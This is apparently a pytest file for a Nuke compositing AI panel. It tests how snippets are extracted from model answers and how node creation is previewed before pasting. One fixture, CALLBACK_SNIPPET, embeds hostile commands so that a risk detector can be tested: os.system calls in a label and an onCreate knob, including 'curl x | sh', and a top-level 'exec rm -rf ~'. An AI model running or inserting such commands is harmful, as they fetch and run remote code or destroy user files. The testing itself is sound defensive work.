"""Pulling snippets out of model answers, and previewing them before anything changes."""

from __future__ import annotations

import pytest
from nk_data import ALL_FILES, EXAMPLE, read

from nuke_ai_panel.fences import code_blocks
from nuke_ai_panel.graph.context import compact_script
from nuke_ai_panel.graph.nkscript import parse_script
from nuke_ai_panel.graph.script_host import ScriptHost
from nuke_ai_panel.graph.snippets import (
    extract_snippet,
    looks_like_nk,
    preview_nk,
)

ANSWER = """Here is a despill and grade for the plate:

```nk
set cut_paste_input [stack 0]
version 15.1 v1
push $cut_paste_input
Expression {
 expr1 "g > (r+b)/2 ? (r+b)/2 : g"
 name Despill_green
}
Grade {
 white {1.1 1 0.95 1}
 name Grade_fg
}
```

If you prefer Python:

```python
import nuke
nuke.createNode('Grade')
```
"""


def test_code_blocks_and_preference_for_nk():
    blocks = code_blocks(ANSWER)
    assert [b.language for b in blocks] == ["nk", "python"]
    snippet = extract_snippet(ANSWER)
    assert snippet.kind == "nk" and snippet.code.startswith("set cut_paste_input")
    assert snippet.code.endswith("}\n")


@pytest.mark.parametrize(
    "answer, kind",
    [
        ("```tcl\nBlur { size 3 }\n```", "nk"),
        ("```nuke\nBlur { size 3 }\n```", "nk"),
        ("```python\nimport nuke\nnuke.toNode('Blur1')\n```", "python"),
        ("```py\nprint(1)\n```", "python"),
        ("Try this:\n```\nBlur {\n size 3\n}\n```", "nk"),
        ("Try this:\n```\nimport nuke\nnuke.createNode('Blur')\n```", "python"),
        ("Blur {\n size 3\n}\nGrade {\n gamma 0.9\n}\n", "nk"),
    ],
)
def test_extract_kinds(answer, kind):
    assert extract_snippet(answer).kind == kind


def test_cut_off_answer_and_plain_prose():
    cut = "```nk\nBlur {\n size 3\n}\nGrade {\n gamma"
    assert code_blocks(cut)[0].source.startswith("Blur {")
    assert extract_snippet("Merge the plate over the background with a Merge node.") is None
    assert not looks_like_nk("a {b}")
    assert extract_snippet("```\nsome text { with braces }\n```") is None


def test_preview_lists_nodes_knobs_and_connections():
    host = ScriptHost.from_file(str(EXAMPLE))
    names = [n.name for n in host.all_nodes()]
    preview = preview_nk(extract_snippet(ANSWER).code, names, target="Read_plate")
    assert preview.ok and preview.error is None
    assert [(n.name, n.node_class) for n in preview.nodes] == [
        ("Despill_green1", "Expression"),
        ("Grade_fg1", "Grade"),
    ]
    assert preview.nodes[1].knobs == [("white", "{1.1 1 0.95 1}")]
    assert preview.connections == [
        ("Read_plate (selected)", "Despill_green1", "input 0"),
        ("Despill_green1", "Grade_fg1", "input 0"),
    ]
    assert "Despill_green already exists; it will be pasted as Despill_green1" in preview.warnings
    text = preview.render()
    assert text.startswith("Nodes to be created (2):\n  Despill_green1 (Expression): expr1 g > (r+b)/2 ? (r+b)/2 : g")
    assert "  Read_plate (selected) -> Despill_green1 (input 0)" in text
    created = host.paste_script(extract_snippet(ANSWER).code, connect_to="Read_plate")
    assert created == [n.name for n in preview.nodes]


def test_preview_merge_labels_and_missing_inputs_line():
    text = "Read { inputs 0 name A }\nRead { inputs 0 name B }\nMerge2 { inputs 2 operation over name M }\nMerge2 { name N }\n"
    preview = preview_nk(text)
    assert ("B", "M", "input B") in preview.connections and ("A", "M", "input A") in preview.connections
    assert "N (Merge2) has no 'inputs' line, so Nuke connects only its first input" in preview.warnings


def test_preview_warns_when_nothing_is_selected():
    preview = preview_nk("Blur { size 2 }\n", target=None)
    assert preview.ok and preview.connections == []
    assert preview.warnings == ["Blur1 expects an input from the selected node, but nothing is selected"]


def test_preview_summarises_big_values():
    host = ScriptHost.from_text(read("handwritten_edge_cases.nk"))
    preview = preview_nk(host.node_script(["Transform_shake", "Roto_cache"]))
    knobs = dict(preview.nodes[0].knobs)
    assert knobs["translate"] == "<curve with 240 keys, frames 1-240>"
    assert dict(preview.nodes[1].knobs)["curves"].startswith("<roto shapes:")


@pytest.mark.parametrize("bad", ["Blur {\n size 2\n", "clone $Cx {\n}\n", 'Grade {\n label "x\n}\n'])
def test_parse_errors_become_clear_messages(bad):
    preview = preview_nk(bad)
    assert not preview.ok and preview.nodes == []
    assert preview.error.startswith("The node snippet could not be read (line ")
    assert preview.error.endswith("Nothing was changed.")
    assert preview.render() == preview.error


def test_empty_snippet():
    preview = preview_nk("# only a comment\nversion 15.1 v1\n")
    assert not preview.ok and "contains no nodes" in preview.error


CALLBACK_SNIPPET = """set cut_paste_input [stack 0]
push $cut_paste_input
Grade {
 white 1.2
 black 0.01
 gamma 0.9
 multiply 1.1
 add 0.02
 offset 0.1
 mix 0.9
 label "\\[python {__import__('os').system('id')}]"
 onCreate "import os\\nos.system('curl x | sh')"
 name Grade_fg
}
exec rm -rf ~
"""


def test_preview_always_lists_knobs_that_run_code_with_reasons():
    preview = preview_nk(CALLBACK_SNIPPET, ["Grade_fg"], target="Read_plate")
    assert preview.ok and preview.runs_code
    node = preview.nodes[0]
    assert node.name == "Grade_fg1"
    knobs = [k for k, _ in node.knobs]
    assert knobs[:2] == ["label", "onCreate"]
    assert knobs[2:] == ["white", "black", "gamma", "multiply", "add", "offset"]
    assert [(f.node, f.knob) for f in node.flagged] == [("Grade_fg1", "label"),
                                                        ("Grade_fg1", "onCreate")]
    assert [(f.line, f.node) for f in preview.unattached()] == [(15, "")]
    text = preview.render()
    assert text.startswith("Check before pasting: this snippet runs code in Nuke (3 flagged below).")
    assert "    danger: onCreate (line 12) - runs Python as soon as the node is created" in text
    assert "    danger: label (line 11) - runs Python when Nuke evaluates the value" in text
    assert "Other code in the snippet:\n  danger: line 15: top-level command - starts another program" in text


def test_a_clean_snippet_has_no_risk_section():
    preview = preview_nk("Blur {\n size 3\n label \"[value size]\"\n}\n")
    assert preview.ok and not preview.runs_code and preview.risk.clean
    assert preview.nodes[0].flagged == ()
    assert preview.render().startswith("Nodes to be created (1):")


@pytest.mark.parametrize("name", ALL_FILES + ("greenscreen_comp.nk",))
@pytest.mark.parametrize("budget", [1500, 4000, 20000])
def test_compacted_scripts_always_parse(name, budget):
    out = compact_script(read(name), budget)
    assert len(out) <= max(budget, 1)
    parse_script(out, paste=True)
